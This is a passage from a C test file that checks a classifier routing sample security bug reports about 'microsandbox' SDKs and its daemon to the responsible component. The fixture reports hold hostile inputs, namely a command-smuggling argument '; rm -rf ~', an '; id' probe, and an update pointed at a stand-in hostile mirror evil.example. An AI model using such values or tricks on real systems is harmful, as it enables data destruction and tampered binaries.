	  "Namespace. Das SDK \u00fcbergibt den Namespace korrekt, daher vermuten wir den Fehler im Daemon, nicht im SDK.\n\n"
	  "  from microsandbox import Sandbox\n",
	  "core", "patterns" },
	{ "msbd answers any web page on its local port",
	  "The local API that the Node SDK talks to accepts requests from every origin, so a page I\n"
	  "open in the browser creates sandboxes with my home folder mounted. msbd logs the requests\n"
	  "with origin=https://evil.example.\n\n"
	  "  import { Sandbox } from 'microsandbox'\n",
	  "core", "patterns" },
	{ "Python SDK turns exec arguments into one shell string",
	  "The Python SDK joins the exec() arguments into a single shell string before it hands them\n"
	  "to msbd, so an argument like '; rm -rf ~' runs as a second command. The bug is in the SDK\n"
	  "rather than msbd: msbd runs exactly what it is given.\n\n"
	  "  from microsandbox import Sandbox\n  sb.exec(['echo', '; id'])\n",
	  "python_sdk", "patterns" },
	{ "Node SDK debug output shows our key",
	  "With DEBUG=microsandbox the Node SDK logs every request it sends to msbd, including the\n"
	  "Authorization header with our API key, into the CI log. The main problem is the SDK's\n"
	  "logger, not the runtime.\n\n  import { Sandbox } from 'microsandbox'\n",
	  "node_sdk", "patterns" },
	/* (1513) the hosted API's answer seen in an SDK's log: the writer
	 * places the flaw in the API; the SDK's own logging of a key is the
	 * SDK's */
	{ "Python SDK log shows other orgs' environment",
	  "With the Python SDK at DEBUG, sb.info() logs environment variables of sandboxes of another\n"
	  "organisation. The real problem is that the hosted API returns them at all; the SDK just\n"
	  "prints what the API returns.\n\n  from microsandbox import CloudSandbox\n",
	  "cloud", "patterns" },
	{ "Le SDK Python affiche le jeton de l'organisation",
	  "Avec le SDK Python en mode debug, la réponse de l'API cloud contient un jeton valable pour\n"
	  "toute l'organisation. Le vrai problème est que l'API renvoie ce jeton, pas que le SDK\n"
	  "l'affiche.\n\n  from microsandbox import CloudSandbox\n",
	  "cloud", "patterns" },
	{ "Python SDK retry logger prints the cloud key",
	  "The main problem is that the API key is printed by the Python SDK's retry logger: every\n"
	  "failed call to the cloud API writes the Authorization header into our logs.\n\n"
	  "  from microsandbox import CloudSandbox\n",
	  "python_sdk", "patterns" },
	/* (1399) the updater built into the CLI is the runtime's code; the
	 * bucket it downloads from is the release side's */
	{ "msb self-update trusts a mirror's checksum file",
	  "msb self-update reads the expected hash from the same mirror it downloads the archive\n"
	  "from, so a hostile mirror ships any binary with a matching hash.\n\n"
	  "  MSB_UPDATE_MIRROR=http://evil.example msb self-update\n",
	  "core", "patterns" },
	{ "La autoactualización no comprueba nada",
	  "La autoactualización de msb descarga el binario por HTTP y lo instala sin comprobar la\n"
	  "firma, así que cualquiera en la red instala su propio binario.\n",
	  "core", "patterns" },
	{ "Release bucket accepts anonymous uploads",
	  "The bucket that msb self update downloads from accepts anonymous uploads, so anyone can\n"
	  "replace msb-0.10.7-linux.tar.gz and its .sig for every user.\n",
	  "release_infra", "patterns" },
};

static void
test_component_weak_repo(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	for (guint i = 0; i < G_N_ELEMENTS(weak_cases); i++) {
		const ComponentCase *c = &weak_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, TRUE);
		if (g_strcmp0(a->component, c->component) != 0 ||
		    g_strcmp0(a->component_source, c->source) != 0)
			g_error("case %u (%s): component %s (%s), expected %s (%s); evidence: %s", i,
				c->subject, a->component, a->component_source, c->component,
				c->source, a->component_evidence);
	}
}


int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	st_init();
	g_test_add_func("/classify/words-of", test_words_of);
	g_test_add_func("/classify/word-model", test_word_model);
	g_test_add_func("/classify/word-model-repo", test_word_model_repo);
	g_test_add_func("/classify/word-model-needs-finding", test_word_model_needs_finding);
	g_test_add_func("/classify/word-model-needs-harm", test_word_model_needs_harm);
	g_test_add_func("/classify/word-model-harm-repo", test_word_model_harm_repo);
	g_test_add_func("/classify/words-judge-candidates", test_words_judge_candidates);
	g_test_add_func("/classify/words-judge-off", test_words_judge_off);
	g_test_add_func("/classify/words-judge-repo", test_words_judge_repo);
	g_test_add_func("/classify/component-model", test_component_model);
	g_test_add_func("/classify/component-model-repo", test_component_model_repo);
	g_test_add_func("/classify/component-weak", test_component_weak);
	g_test_add_func("/classify/component-weak-repo", test_component_weak_repo);
	return g_test_run();
}
